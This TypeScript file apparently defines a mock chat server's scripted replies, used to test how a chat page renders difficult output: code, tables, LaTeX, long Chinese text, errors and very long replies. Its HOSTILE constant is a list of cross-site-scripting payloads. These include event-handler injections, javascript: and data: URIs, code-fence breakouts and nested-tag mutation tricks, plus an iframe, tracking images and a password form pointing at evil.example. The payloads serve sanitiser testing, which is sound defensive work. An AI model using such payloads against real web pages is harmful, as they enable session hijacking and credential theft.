// What the mock server's model answers: the first rule whose word stands in the message. Texts that are hard for the page:
// code, tables, maths, long Chinese, hostile Markdown, very long replies.

export interface Script {
  readonly text: string;
  /** Pause between pieces; 0 is as fast as it goes. */
  readonly pieceMs: number;
  readonly pieceCharacters: number;
  /** Prompt tokens to read before the first word, each taking a millisecond. */
  readonly promptTokens: number;
  /** The reply breaks off with this after its text. */
  readonly failure?: {
    readonly code: string;
    readonly message: string;
    readonly promptTokens?: number;
    readonly window?: number;
  };
  readonly finishReason?: "stop" | "length";
  readonly loads?: boolean;
}

const RICH = `好，下面用一段代码、一张表和一点数学说明 **softmax** 的温度。

## 定义

给定打分 $z_1, \\dots, z_V$，温度 $T > 0$ 时的概率是

$$
p_i = \\frac{\\exp(z_i / T)}{\\sum_{j=1}^{V} \\exp(z_j / T)}
$$

$T$ 越小，分布越尖；$T \\to 0$ 时就是**“贪心”**，总取最大的那个。

## 代码

\`\`\`ts
/** Probabilities of logits at a temperature; the largest is subtracted first, so nothing overflows. */
export function softmax(logits: readonly number[], temperature = 1): number[] {
  const top = Math.max(...logits);
  const weights = logits.map((logit) => Math.exp((logit - top) / temperature));
  const sum = weights.reduce((a, b) => a + b, 0);
  return weights.map((weight) => weight / sum); // sums to 1
}
\`\`\`

## 比较

| 温度 | 最可能的词 | 熵 (bit) | 适合 |
|-----:|:----------:|--------:|------|
| 0.2 | 97.1 % | 0.21 | 算数、代码 |
| 0.8 | 71.4 % | 1.38 | 对话 |
| 1.5 | 40.2 % | 3.02 | 写诗 |

> 温度不会让模型知道得更多，只改变它敢不敢选次好的词。

要点：

1. 先减去最大值，再取指数；
2. \`temperature = 0\` 要单独处理：
   - 不能除以零，
   - 直接取 \`argmax\`；
3. 更多见 https://example.org/softmax，那里有图。
`;

const LONG_CHINESE = `${"量变引起质变。水一度一度地热上去，看着没有什么动静，到了一百度，忽然就开了。读书也是这样：一页一页地翻，字认得多了，句子读得顺了，某一天合上书，会发现自己想事情的方式和从前不一样。语言模型不过是把这件事做了几万亿遍：一个词一个词地猜下去，猜得多了，便像是懂了。".repeat(2)}\n\n${"机器没有春天，却见过所有写春天的句子；它不认得雪，但知道“雪”后面常常跟着“落”。有人说这不是理解，也有人说理解本来就是这样一点一点攒起来的。争论还会继续，尺子先量着。".repeat(3)}\n\n夜深了，风从窗缝里进来，灯下的人把最后一行字写完，合上本子，听见远处有火车经过。`;

const HOSTILE = `Before <script>window.hacked = 1</script> after.

<img src="x" onerror="window.hacked = 2">

<iframe src="https://evil.example/frame"></iframe>

<svg onload="window.hacked = 3"><a xlink:href="javascript:window.hacked=4">x</a></svg>

[click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>) [own](/api/conversations)

![picture](https://evil.example/track.png) ![also][pic]

<a href="javascript:alert(1)" onclick="window.hacked = 7">anchor</a>

\`\`\`"><img src=x onerror=window.hacked=8>
</code></pre><script>window.hacked = 9</script>
\`\`\`

- in a list

  \`\`\`js" onload="window.hacked=10
  <b onmouseover="window.hacked = 11">code</b>
  \`\`\`

$\\href{javascript:window.hacked=12}{x}$ and $\\url{javascript:window.hacked=13}$ and $\\includegraphics{https://evil.example/a.png}$

<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 14"></style></mglyph></table></mtext></math>

![drawn](data:image/svg+xml,<svg/onload=window.hacked=15>) <a href="//evil.example/x">no scheme</a> [same](//evil.example/y) <b onclick="window.hacked = 16" style="position:fixed">bold</b>

<style>body { display: none }</style>

<form action="https://evil.example"><input name="password"><button>Send</button></form>

[pic]: https://evil.example/two.png

The end of hostile text.
`;

const STORY =
  "Once upon a time, there was a little cat named Tom. Tom liked to play in the garden. One day, he saw a big red ball. He wanted to catch it, but it was too fast. His friend Lily came to help. Together they ran and ran, and at last they had the ball. They were very happy.";

const section = (n: number): string =>
  `### Section ${n}\n\nThis is paragraph ${n} with **weight**, \`code\` and $x_{${n}}$, long enough to fill more than one line of the sheet on most screens, as real replies do.\n\n- first item of ${n}\n- second item of ${n}\n\n`;

function longReply(tokens: number): string {
  let text = "";
  for (let n = 1; text.length < tokens * 4; n++) text += section(n);
  return text;
}

const base = { pieceMs: 8, pieceCharacters: 6, promptTokens: 24 };

const rules: readonly { readonly word: string; readonly script: (message: string) => Script }[] = [
  { word: "softmax", script: () => ({ ...base, text: RICH, pieceMs: 3 }) },
  { word: "量变", script: () => ({ ...base, text: LONG_CHINESE, pieceMs: 2 }) },
  { word: "hostile", script: () => ({ ...base, text: HOSTILE, pieceMs: 1, pieceCharacters: 7 }) },
  { word: "slowly", script: () => ({ ...base, text: STORY.repeat(2), pieceMs: 25, pieceCharacters: 4 }) },
  { word: "long prompt", script: () => ({ ...base, text: "I have read it all.", promptTokens: 4000 }) },
  { word: "cut short", script: () => ({ ...base, text: "This goes on and", finishReason: "length" }) },
  { word: "think", script: () => ({ ...base, text: "<think>\nThe person asks. I answer.\n</think>\n\nForty-two." }) },
  { word: "load first", script: () => ({ ...base, text: "Now I am here.", loads: true }) },
  {
    word: "too much",
    script: () => ({
      ...base,
      text: "",
      failure: {
        code: "context_length_exceeded",
        message: "The prompt has 9012 tokens and exceeds the available context size of 8192 tokens.",
        promptTokens: 9012,
        window: 8192,
      },
    }),
  },
  {
    word: "break",
    script: () => ({
      ...base,
      text: "It begins well, but",
      failure: { code: "kernel_failed", message: "A kernel failed. Try again." },
    }),
  },
  {
    word: "tokens of text",
    script: (message) => ({
      ...base,
      text: longReply(Number(/\d+/.exec(message)?.[0] ?? 1000)),
      pieceMs: 0,
      pieceCharacters: 24,
    }),
  },
];

export function scriptFor(message: string): Script {
  const rule = rules.find(({ word }) => message.includes(word));
  if (rule !== undefined) return rule.script(message);
  return { ...base, text: message.startsWith("echo ") ? message.slice(5) : STORY };
}
